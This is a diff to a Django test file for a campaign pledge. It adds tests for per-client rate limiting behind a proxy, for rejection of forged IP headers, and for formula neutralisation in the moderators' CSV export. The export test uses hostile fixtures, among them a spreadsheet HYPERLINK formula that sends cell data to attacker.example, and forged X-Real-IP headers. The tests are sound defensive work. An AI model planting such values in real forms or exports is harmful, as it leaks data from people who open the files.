@@ -1,10 +1,13 @@
 """The campaign pledge: signing, consent, moderation, counts, duplicates, rate limit and
 the moderators-only CSV export."""
 
+import csv
+import io
 import re
 import uuid
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 from django.urls import reverse
 
@@ -25,10 +28,10 @@ def campaign(campaign_index):
     )
 
 
-def _sign(client, campaign, **fields):
+def _sign(client, campaign, headers=None, **fields):
     data = {"token": str(uuid.uuid4()), "kind": "individual", "name": "", "country": "FR"}
     data.update(fields)
-    return client.post("/en/campaigns/talk/pledge/", data)
+    return client.post("/en/campaigns/talk/pledge/", data, **(headers or {}))
 
 
 def test_page_shows_the_pledge_form(client, campaign):
@@ -128,6 +131,30 @@ def test_signing_is_rate_limited(client, campaign):
     assert PledgeSignature.objects.count() == RATE_LIMIT
 
 
+def test_behind_a_trusted_proxy_each_reader_has_their_own_allowance(client, campaign, settings):
+    """Every request comes from the proxy's address; the header it sets tells readers apart."""
+    settings.OPENLY_CLIENT_IP_HEADER = "HTTP_X_REAL_IP"
+
+    def via_proxy(reader):
+        return {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_REAL_IP": reader}
+
+    for _attempt in range(RATE_LIMIT):
+        assert _sign(client, campaign, headers=via_proxy("203.0.113.1")).status_code == 302
+    assert _sign(client, campaign, headers=via_proxy("203.0.113.1")).status_code == 429
+    assert _sign(client, campaign, headers=via_proxy("203.0.113.2")).status_code == 302
+    assert PledgeSignature.objects.count() == RATE_LIMIT + 1
+
+
+def test_without_a_trusted_proxy_a_forged_header_changes_nothing(client, campaign, settings):
+    settings.OPENLY_CLIENT_IP_HEADER = ""
+    for attempt in range(RATE_LIMIT):
+        forged = {"HTTP_X_REAL_IP": f"203.0.113.{attempt}"}
+        assert _sign(client, campaign, headers=forged).status_code == 302
+    refused = _sign(client, campaign, headers={"HTTP_X_REAL_IP": "198.51.100.9"})
+    assert refused.status_code == 429
+    assert PledgeSignature.objects.count() == RATE_LIMIT
+
+
 def test_closed_or_missing_pledge_accepts_nothing(client, campaign_index):
     CampaignPageFactory(parent=campaign_index, slug="talk", pledge_statement="")
     response = _sign(client, None)
@@ -163,6 +190,35 @@ def test_moderators_export_signatures_as_csv(client, django_user_model, campaign
     assert response["Content-Type"].startswith("text/csv")
     content = b"".join(response.streaming_content).decode()
     assert "ana@x.org" in content
+
+
+def test_the_signatures_export_neutralises_formulas(client, campaign):
+    """Names and commitments come from the public form; in the moderators' spreadsheet they
+    must stay text, never a formula."""
+    from home.cocreation.roles import MODERATORS, setup_roles
+
+    setup_roles()
+    hostile = {
+        '=HYPERLINK("https://attacker.example/?d="&F2,"Open")': "@SUM(A1:A9)",
+        "+1": "-1",
+        "\t=1+1": "\r=1+1",
+    }
+    for name, commitment in hostile.items():
+        PledgeSignatureFactory(
+            campaign=campaign, kind="organisation", name=name, commitment=commitment
+        )
+    PledgeSignatureFactory(campaign=campaign, name="Ana", commitment="Listen first.")
+    moderator = get_user_model().objects.create_user("moderator", password="pw")
+    moderator.groups.add(Group.objects.get(name=MODERATORS))
+    client.force_login(moderator)
+    url = reverse("wagtailsnippets_campaigns_pledgesignature:list") + "?export=csv"
+    content = b"".join(client.get(url).streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(content)))
+    cells = {(row["Name"], row["Commitment"]) for row in rows}
+    assert cells == {
+        *{("'" + name, "'" + commitment) for name, commitment in hostile.items()},
+        ("Ana", "Listen first."),
+    }
 
 
 @pytest.mark.parametrize(
